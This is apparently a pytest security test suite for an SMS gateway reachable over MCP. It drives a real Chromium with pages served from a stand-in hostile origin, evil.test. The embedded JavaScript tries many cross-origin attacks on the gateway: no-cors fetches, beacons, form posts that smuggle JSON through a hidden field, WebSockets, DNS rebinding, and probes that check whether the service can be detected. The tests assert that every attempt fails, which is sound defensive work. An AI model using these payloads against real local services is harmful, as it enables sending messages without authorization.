# SPDX-License-Identifier: GPL-2.0-or-later
"""What web pages can do to a gateway, tried in a real Chromium.

The gateway of these tests accepts clients without a token, so only the gates stand in the way.
As a control, the same page from a listed Origin does send.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from agent import Agent
from browser import Browser, Site
from lab import Lab, wait_until
from lab.gateway import free_port
from lone_gateway import LoneGateway

TO = "+36301234567"
SEND = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
    "name": "send_sms", "arguments": {"to_phone_number": TO, "sms_text": "from a page"}}}
INITIALIZE = {"jsonrpc": "2.0", "id": 2, "method": "initialize", "params": {
    "protocolVersion": "2025-11-25", "capabilities": {},
    "clientInfo": {"name": "page", "version": "1"}}}

PAGE = """<!doctype html><title>page</title><body><script>
const base = %(base)s, send = %(send)s, initialize = %(initialize)s;
const json = { "Content-Type": "application/json",
	"Accept": "application/json, text/event-stream" };
const plain = { "Content-Type": "text/plain" };

async function read(response) {
	return { type: response.type, status: response.status, text: await response.text(),
		session: response.headers.get("mcp-session-id") };
}
const ask = (path, options) => fetch(base + path, options).then(read);

function loaded(element, attributes) {
	return new Promise((resolve) => {
		Object.assign(element, attributes);
		element.onload = () => resolve("loaded");
		element.onerror = () => resolve("error");
		document.body.append(element);
	});
}

function framed(element) {
	return new Promise((resolve) => {
		const frame = document.createElement("iframe");
		frame.name = "frame" + Math.random();
		frame.onload = () => {
			let text = "";
			try { text = frame.contentDocument.body.innerText; } catch (e) {}
			if (frame.contentDocument?.URL != "about:blank") resolve({ text });
		};
		document.body.append(frame);
		element(frame);
	});
}

function form(enctype) {
	return framed((frame) => {
		const form = document.createElement("form");
		const input = document.createElement("input");
		Object.assign(form, { action: base + "/mcp", method: "POST", enctype,
			target: frame.name });
		const text = JSON.stringify(send);	/* NAME=VALUE, and it is JSON again */
		Object.assign(input, { type: "hidden", name: text.slice(0, -1) + ',"x":"',
			value: '"}' });
		form.append(input);
		document.body.append(form);
		form.submit();
	});
}

function told(source) {
	return new Promise((resolve) => {
		source.onmessage = (event) => resolve({ text: String(event.data) });
		source.onopen = () => resolve({ text: "open" });
		source.onerror = () => resolve("error");
	});
}

function xhr() {
	return new Promise((resolve) => {
		const request = new XMLHttpRequest();
		request.open("POST", base + "/mcp");
		request.setRequestHeader("Content-Type", "application/json");
		request.onload = () => resolve({ status: request.status,
			text: request.responseText });
		request.onerror = () => resolve("error");
		request.send(JSON.stringify(send));
	});
}

const body = JSON.stringify(send);
const attempts = {
	fetch: () => ask("/mcp", { method: "POST", headers: json, body }),
	credentials: () => ask("/mcp", { method: "POST", headers: json, body,
		credentials: "include" }),
	authorization: () => ask("/mcp", { method: "POST", body,
		headers: { ...json, Authorization: "Bearer x" } }),
	simple: () => ask("/mcp", { method: "POST", headers: plain, body }),
	no_cors: () => ask("/mcp", { method: "POST", headers: plain, body, mode: "no-cors" }),
	no_cors_credentials: () => ask("/mcp", { method: "POST", headers: plain, body,
		mode: "no-cors", credentials: "include" }),
	no_cors_untyped: () => ask("/mcp", { method: "POST", mode: "no-cors",
		body: new Blob([body]) }),
	get: () => ask("/mcp", {}),
	get_health: () => ask("/healthz", {}),
	get_no_cors: () => ask("/mcp", { mode: "no-cors" }),
	remove: () => ask("/mcp", { method: "DELETE" }),
	xhr,
	beacon: async () => navigator.sendBeacon(base + "/mcp",
		new Blob([body], { type: "text/plain" })) && "",
	beacon_json: async () => navigator.sendBeacon(base + "/mcp",
		new Blob([body], { type: "application/json" })) && "",
	form_text: () => form("text/plain"),
	form_urlencoded: () => form("application/x-www-form-urlencoded"),
	form_multipart: () => form("multipart/form-data"),
	frame: () => framed((frame) => { frame.src = base + "/mcp"; }),
	frame_health: () => framed((frame) => { frame.src = base + "/healthz"; }),
	events: () => told(new EventSource(base + "/mcp")),
	socket: () => told(new WebSocket(base.replace("http", "ws") + "/mcp")),
	image: () => loaded(new Image(), { src: base + "/mcp" }),
	script: () => loaded(document.createElement("script"), { src: base + "/healthz" }),
};
const late = () => new Promise((resolve) => setTimeout(resolve, 3000, "nothing"));

addEventListener("load", async () => {
	const found = {};
	if (%(handshake)s)
		found.initialize = await ask("/mcp", { method: "POST", headers: json,
			body: JSON.stringify(initialize) }).catch(String);
	for (const [name, attempt] of Object.entries(attempts))
		if (!%(only)s || %(only)s.includes(name))
			found[name] = await Promise.race([attempt().catch(String), late()]);
	await fetch("/report", { method: "POST", body: JSON.stringify(found) });
});
</script>"""
ALL = set("""fetch credentials authorization simple no_cors no_cors_credentials
    no_cors_untyped get get_health get_no_cors remove xhr beacon beacon_json form_text
    form_urlencoded form_multipart frame frame_health events socket image script""".split())


def page(base: str, only: list[str] | None = None, handshake: bool = False) -> str:
    names = {"base": base, "send": SEND, "initialize": INITIALIZE, "only": only,
             "handshake": handshake}
    return PAGE % {name: json.dumps(value) for name, value in names.items()}


def readable(found: Any) -> str:
    """What the page could read of an answer."""
    return found.get("text", "") if isinstance(found, dict) else ""


def assert_untouched(lab: Lab) -> None:
    messages = Agent(lab).call("list_sms").structured["messages"]
    assert messages == []
    assert lab.modems[0].offered == []


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_foreign_page_reads_nothing_and_sends_nothing(make_lab: Callable[..., Lab], host: str) -> None:
    lab = make_lab(modem_count=1)
    with Site(page(f"http://{host}:{lab.gateway.port}")) as site, \
            Browser(f"http://evil.test:{site.port}/"):
        found = site.report()
    assert set(found) == ALL
    assert {name: readable(one) for name, one in found.items() if readable(one)} == {}
    assert_untouched(lab)


def test_a_local_file_page_reads_nothing_and_sends_nothing(make_lab: Callable[..., Lab], folder: Any) -> None:
    """Its Origin is "null", like that of a sandboxed frame."""
    lab = make_lab(modem_count=1)
    with Site("") as site:
        text = page(f"http://127.0.0.1:{lab.gateway.port}")
        reporting = text.replace('fetch("/report", {',
                                 f'fetch("http://evil.test:{site.port}/report", '
                                 '{ mode: "no-cors",')
        assert reporting != text
        (folder / "page.html").write_text(reporting)
        with Browser(f"file://{folder}/page.html"):
            found = site.report()
    assert set(found) == ALL
    assert {name: readable(one) for name, one in found.items() if readable(one)} == {}
    assert_untouched(lab)


def test_a_dns_rebinding_page_gets_421_only(make_lab: Callable[..., Lab]) -> None:
    """The name of the page's own site resolves to the gateway, so everything has one origin
    and the page can read the answers: they say 421 and nothing else."""
    port = free_port()
    lab = make_lab(modem_count=1)
    base = f"http://evil.test:{port}"
    with Site(page(base), "127.0.0.2", port, behind=lab.gateway.port) as site, \
            Browser(f"{base}/", "127.0.0.2"):
        found = site.report()
    assert set(found) == ALL
    for name, one in found.items():
        if isinstance(one, dict) and "status" in one:
            assert one["status"] in (421, 403, 0), (name, one)
        if text := readable(one):
            assert "does not know that Host name" in text, (name, one)
    assert found["fetch"]["status"] == found["get_health"]["status"] == 421
    assert_untouched(lab)


def test_an_allowed_origin_can_send(make_lab: Callable[..., Lab]) -> None:
    """The same page: so the page itself is not why the others failed."""
    port = free_port()
    lab = make_lab(f"[server]\nallowed_origin = http://app.test:{port}\n", modem_count=1)
    text = page(f"http://127.0.0.1:{lab.gateway.port}", ["fetch", "xhr", "authorization"],
                handshake=True)
    with Site(text, port=port) as site, Browser(f"http://app.test:{port}/"):
        found = site.report()
    assert found["initialize"]["status"] == 200
    assert found["initialize"]["session"]
    for name in ("fetch", "xhr", "authorization"):
        assert f"SMS sent to {TO}" in found[name]["text"], found
    wait_until(lambda: len(lab.modems[0].taken) == 3, what="the network took them")


LOOK = """<!doctype html><title>look</title><body><script>
const paths = %(paths)s;
const kinds = { script: "src", img: "src", link: "href", object: "data", iframe: "src",
	embed: "src", audio: "src" };

const look = (kind, url) => new Promise((resolve) => {
	const element = document.createElement(kind);
	for (const name of ["load", "error", "loadedmetadata"])
		element.addEventListener(name, () => resolve(name));
	element.rel = "stylesheet";
	element[kinds[kind]] = url;
	document.body.append(element);
	setTimeout(resolve, 3000, "nothing");
});

addEventListener("load", async () => {
	const found = {};
	for (const [name, url] of Object.entries(paths)) {
		found[name] = { fetch: await fetch(url, { mode: "no-cors" })
			.then((answer) => answer.type, () => "error") };
		await Promise.all(Object.keys(kinds).map(async (kind) => {
			found[name][kind] = await look(kind, url);
		}));
	}
	await fetch("/report", { method: "POST", body: JSON.stringify(found) });
});
</script>"""
PATHS = ["/", "/healthz", "/healthz/ready", "/healthz/live", "/metrics", "/mcp",
         "/mcp/server-card", "/nothing"]


def test_a_page_cannot_detect_the_gateway() -> None:
    """Neither from an answer nor from an element's events: it looks as if no server were
    there."""
    with LoneGateway(open=False) as gateway:
        urls = {path: f"http://127.0.0.1:{gateway.port}{path}" for path in PATHS}
        urls["nobody"] = f"http://127.0.0.1:{free_port()}/"
        with Site(LOOK % {"paths": json.dumps(urls)}) as site, \
                Browser(f"http://evil.test:{site.port}/"):
            found = site.report()
    nobody = found.pop("nobody")
    assert found == dict.fromkeys(PATHS, nobody)
